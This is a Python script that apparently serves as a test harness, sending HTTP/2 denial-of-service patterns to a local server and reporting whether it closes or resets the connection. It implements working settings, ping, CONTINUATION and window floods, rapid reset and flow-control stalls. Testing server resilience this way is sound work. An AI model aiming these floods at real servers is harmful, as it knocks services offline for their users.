"""
Frames that no honest client sends, or not so many of, made with python3-h2's own framing. One kind in a run; says as JSON how it ended.

usage: http2_attack.py PORT KIND
"""
import json
import select
import socket
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAMES_MAX = 20_000
SECONDS_MAX = 60
LARGE = "/large?bytes=1000000"


class Attack:
    def __init__(self, port):
        self.socket = socket.create_connection(("127.0.0.1", port))
        self.encoder = Encoder()
        self.begin = time.monotonic()
        self.arrived = b""
        self.goaway = []
        self.resets = 0
        self.has_ended = False
        self.sent = 0

    def headers(self, stream, path="/", end=True, method="GET"):
        frame = HeadersFrame(stream)
        fields = [(":method", method), (":scheme", "http"), (":authority", "a"), (":path", path)]
        frame.data = self.encoder.encode(fields)
        frame.flags.add("END_HEADERS")
        if end:
            frame.flags.add("END_STREAM")
        return frame

    def settings(self, **values):
        return SettingsFrame(0, settings={getattr(SettingsFrame, name): value for name, value in values.items()})

    def send(self, *frames):
        """Whether it was taken."""
        try:
            self.socket.sendall(b"".join(frame.serialize() for frame in frames))
        except OSError:
            self.has_ended = True
            return False
        self.sent += 1
        self.read(0)
        return not self.has_ended

    def read(self, seconds):
        if not select.select([self.socket], [], [], seconds)[0]:
            return
        try:
            octets = self.socket.recv(65_536)
        except OSError:
            octets = b""
        if octets == b"":
            self.has_ended = True
        self.arrived += octets
        while len(self.arrived) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.arrived[:9]))
            if len(self.arrived) < 9 + length:
                return
            frame.parse_body(memoryview(self.arrived[9 : 9 + length]))
            self.arrived = self.arrived[9 + length :]
            if isinstance(frame, GoAwayFrame):
                self.goaway.append(frame.error_code)
            if isinstance(frame, RstStreamFrame):
                self.resets += 1

    def until_end(self):
        while not self.has_ended and time.monotonic() - self.begin < SECONDS_MAX:
            self.read(1)

    def many(self, frames):
        for number in range(FRAMES_MAX):
            if not self.send(*frames(number)):
                return

    def run(self, kind):
        self.socket.sendall(PREFACE + self.settings().serialize())
        getattr(self, kind)()
        self.until_end()
        seconds = time.monotonic() - self.begin
        print(json.dumps({"ended": self.has_ended, "goaway": self.goaway, "sent": self.sent, "resets": self.resets, "seconds": seconds}))

    # The kinds.

    def settings_flood(self):
        self.many(lambda _: [self.settings()])

    def ping_flood(self):
        self.many(lambda _: [PingFrame(0, b"12345678")])

    def priority_flood(self):
        self.many(lambda number: [PriorityFrame(1 + 2 * (number % 100), depends_on=0, stream_weight=15)])

    def window_flood(self):
        self.many(lambda _: [WindowUpdateFrame(0, window_increment=1)])

    def empty_data_flood(self):
        self.send(self.headers(1, end=False, method="POST"))
        self.many(lambda _: [DataFrame(1, b"")])

    def continuation_flood(self):
        head = self.headers(1)
        head.flags.discard("END_HEADERS")
        self.send(head)
        self.many(lambda number: [ContinuationFrame(1, self.encoder.encode([(f"x-{number}", "y")]))])

    def rapid_reset(self):
        self.many(lambda number: [self.headers(1 + 2 * number, "/waits"), RstStreamFrame(1 + 2 * number, 8)])

    def window_stall(self):
        """Asks for much, and gives no window for any of it."""
        self.send(self.settings(INITIAL_WINDOW_SIZE=0))
        for number in range(100):
            self.send(self.headers(1 + 2 * number, LARGE))

    def window_trickle(self):
        """Gives a byte of window at a time."""
        self.send(self.settings(INITIAL_WINDOW_SIZE=0))
        self.send(self.headers(1, LARGE))
        while not self.has_ended and self.resets == 0 and time.monotonic() - self.begin < SECONDS_MAX:
            self.send(WindowUpdateFrame(1, window_increment=1))
            time.sleep(0.02)


Attack(int(sys.argv[1])).run(sys.argv[2])
